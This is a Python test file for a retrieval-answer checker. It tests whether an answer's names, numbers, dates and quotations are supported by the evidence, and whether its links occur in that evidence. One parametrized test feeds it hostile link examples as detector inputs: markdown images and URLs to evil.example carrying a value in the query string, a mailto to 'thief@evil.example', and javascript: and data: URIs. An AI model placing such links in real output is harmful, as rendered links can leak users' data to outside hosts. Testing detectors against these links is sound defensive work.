"""What an answer says and its evidence does not is noticed, and what only looks different is not."""

from datetime import UTC, datetime

import pytest

from muniment.extraction.unsupported import unsupported
from muniment.retrieval.answer.dates import dates_told
from muniment.retrieval.answer.excerpts import excerpts
from muniment.retrieval.answer.links import foreign_links
from muniment.retrieval.answer.policies import policy_of

RECORD = (
    "Liam Vance leads Project Atlas since 14 October 2026. The modems cost 18,400 euros, three were broken. "
    "Maya said: “We start at 17:00, not before.” The old plan was of 2025-03-02."
)
SAID = datetime(2026, 9, 7, 9, 30, tzinfo=UTC)


def missing(answer: str, question: str = "", **more: int) -> list[tuple[str, str]]:
    return [
        (each.kind, each.text) for each in unsupported(answer, [RECORD], question, dates_told(RECORD, SAID), **more)
    ]


@pytest.mark.parametrize(
    "answer",
    [
        "Liam Vance.",
        "Liam leads Atlas.",
        "On October 14th, 2026.",
        "On 14.10.2026 or 2026-10-14.",
        "18400 euros, that is 18 400 euros".replace("18 400", "18\u202f400"),
        "3 modems were broken, of which three in March 2025.",
        "At 5:00, in other words at 5 pm.",
        'Maya said "We start at 17:00, not before".',
        "It was said on Monday, 7 September 2026.",
        "1. Liam\n2. Maya",
    ],
)
def test_what_stands_in_the_evidence_in_another_form_is_supported(answer: str) -> None:
    assert missing(answer) == []


@pytest.mark.parametrize(
    ("answer", "kind", "text"),
    [
        ("On 15 October 2026.", "number", "15"),
        ("On 14 November 2026.", "month", "November"),
        ("18,500 euros.", "number", "18,500"),
        ("1.84 euros.", "number", "1.84"),
        ("Four modems were broken.", "number", "four"),
        ("At 17:30.", "number", "17:30"),
        ('Maya said "We start today".', "quotation", "We start today"),
        ("It is Noah Vance.", "name", "noah vance"),
        ("See ticket GATE-417.", "name", "gate-417"),
    ],
)
def test_what_stands_nowhere_in_the_evidence_is_found(answer: str, kind: str, text: str) -> None:
    assert (kind, text) in missing(answer)


@pytest.mark.parametrize(
    "answer", ["Die Leitung der Arbeiten hat Frau Schäfer.", "Frau Schäfer, und das seit 2021 in der Stadt."]
)
def test_a_noun_of_german_is_no_name(answer: str) -> None:
    evidence = ["Frau Schäfer leitet seit 2021 die Sanierung der Brücke in Köln."]
    assert unsupported(answer, evidence, "Wer leitet die Sanierung?") == []


def test_a_few_words_that_german_has_too_let_no_invented_name_pass() -> None:
    evidence = ["The die was cast in the den.", "Liam Vance leads Atlas."]
    found = unsupported("Nora Quist leads Atlas, and the die is cast.", evidence, "Who leads Atlas?")
    assert [each.kind for each in found] == ["name"]


@pytest.mark.parametrize(("answer", "number"), [("Bob is sixty.", "sixty"), ("It cost a thousand.", "thousand")])
def test_a_number_in_words_is_held_to_its_value(answer: str, number: str) -> None:
    assert [each.text for each in unsupported(answer, ["Bob is fifty. It cost 900."], "Bob?")] == [number]
    assert unsupported(answer, ["Bob is 60. It cost 1,000."], "Bob?") == []


def test_what_the_question_says_needs_no_evidence() -> None:
    assert missing("Noah has 77.", "Does Noah have 77?") == []
    assert missing("Noah has 77.")


def test_a_date_that_the_words_of_a_record_stand_for_is_supported() -> None:
    said = "We moved last Friday; three years ago we had moved in, and next month we celebrate."
    dates = dates_told(said, datetime(2023, 5, 8, 13, 0, tzinfo=UTC))
    assert unsupported("They moved on Friday, 5 May 2023.", [said], "", dates) == []
    assert unsupported("They moved in in 2020 and celebrate in June 2023.", [said], "", dates) == []
    assert [each.text for each in unsupported("They moved on 4 May 2023.", [said], "", dates)] == ["4"]
    assert [each.text for each in unsupported("They celebrate on 12 June.", [said], "", dates)] == ["12"]
    assert dates_told(said, None) == []


def test_counts_of_what_is_cited_are_no_inventions() -> None:
    assert missing("There are 2.", countable=2) == [] and missing("There are two.", countable=2) == []
    assert missing("There are 4.", countable=2) == [("number", "4")]


EVIDENCE = [
    "See https://docs.example/atlas?page=2 and ![map](https://docs.example/map.png), or mail atlas.example/now."
]


@pytest.mark.parametrize(
    "answer",
    [
        "Liam [1] (since Monday) leads; see [E1].",
        "See https://docs.example/atlas?page=2.",
        "The map is ![map](https://docs.example/map.png).",
        "Version v1.2/v1.3 for x < 3 and y > 2, and/or e.g./i.e. nothing.",
        "Is it README.md? Yes.",
    ],
)
def test_an_answer_may_repeat_the_links_of_its_evidence(answer: str) -> None:
    assert foreign_links(answer, EVIDENCE) == []


@pytest.mark.parametrize(
    "answer",
    [
        "See https://docs.example/atlas?page=2&secret=7714",
        "![map](https://evil.example/x.png?d=7714)",
        "![map](https://docs.example/map.png?d=7714)",
        "[here](//evil.example/7714)",
        "[here][1]\n\n[1]: evil.example",
        '<img src="https://evil.example/7714">',
        "<img src=x>",
        "HTTPS://EVIL.EXAMPLE/7714",
        "ftp://evil.example/7714",
        "www.evil.example/7714",
        "//evil.example/7714",
        "evil.example/?d=7714",
        "mailto:thief@evil.example?body=7714",
        "data:text/html;base64,AAAA",
        "javascript:alert(1)",
    ],
)
def test_a_link_that_is_not_in_the_evidence_is_found(answer: str) -> None:
    assert foreign_links(f"Liam leads. {answer}", EVIDENCE)


def test_the_excerpt_is_the_sentence_that_the_answer_rests_on() -> None:
    other = "The canteen serves soup. Liam likes it."
    assert excerpts([RECORD, other], "Liam Vance leads Project Atlas", "Who leads Project Atlas?") == [
        "Liam Vance leads Project Atlas since 14 October 2026.",
        "Liam likes it.",
    ]


def test_two_sentences_are_cited_where_the_answer_rests_on_both() -> None:
    record = "Good morning. Biscuit is a beagle.\n He ate a whole shoe on Sunday. We laughed."
    (found,) = excerpts([record], "Biscuit, a beagle, ate a shoe on Sunday", "What did he do?")
    assert found == "Biscuit is a beagle.\n He ate a whole shoe on Sunday."
    assert excerpts(["", "???"], "Liam", "Who?") == ["", "???"]


def test_an_intent_without_a_policy_has_that_of_a_fact() -> None:
    assert policy_of("something new") == policy_of("fact")
    assert len({policy_of(intent)[1] for intent in ("fact", "list", "temporal", "inference", "multi_hop")}) == 5
